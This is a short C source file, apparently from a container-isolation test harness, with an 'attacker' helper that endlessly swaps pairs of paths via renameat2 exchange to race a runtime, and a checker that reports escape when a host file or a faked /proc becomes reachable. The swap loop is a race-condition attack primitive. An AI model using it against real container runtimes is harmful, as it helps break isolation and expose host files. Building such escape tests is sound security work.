/* swap A B [A B …]: exchanges each pair of names, for ever: what is looked at is the one, what is used is the other. */
#include <sys/statfs.h>
#include <sys/syscall.h>

#include "attacker.h"

#define EXCHANGE 2

int swap_main(int argc, char **argv) {
  puts("swapping");
  fflush(stdout);
  for (;;) {
    for (int i = 1; i + 1 < argc; i += 2) {
      if (syscall(SYS_renameat2, AT_FDCWD, argv[i], AT_FDCWD, argv[i + 1], EXCHANGE) < 0) {
        perror(argv[i]);
        return 1;
      }
    }
  }
}

#define PROC_SUPER_MAGIC 0x9fa0

static bool is_procfs(const char *path) {
  struct statfs fs;
  return statfs(path, &fs) == 0 && fs.f_type == PROC_SUPER_MAGIC;
}

/* look SECRET DIRECTORY…: whether a file of the host, known by its path there, can be opened below any of these, and
 * whether /proc is still what the kernel says of processes. */
int look_main(int argc, char **argv) {
  static const char *const proc[] = {"/proc", "/proc/self", "/proc/self/attr", "/proc/sys"};
  char path[8192];
  for (int i = 2; i < argc; i++) {
    snprintf(path, sizeof path, "%s%s", argv[i], argv[1]);
    int fd = open(path, O_PATH);
    if (fd < 0) continue;
    printf("reached %s\n", path);
    return ESCAPED;
  }
  for (size_t i = 0; i < sizeof proc / sizeof proc[0]; i++) {
    if (is_procfs(proc[i])) continue;
    printf("%s is no procfs\n", proc[i]);
    return ESCAPED;
  }
  return 0;
}
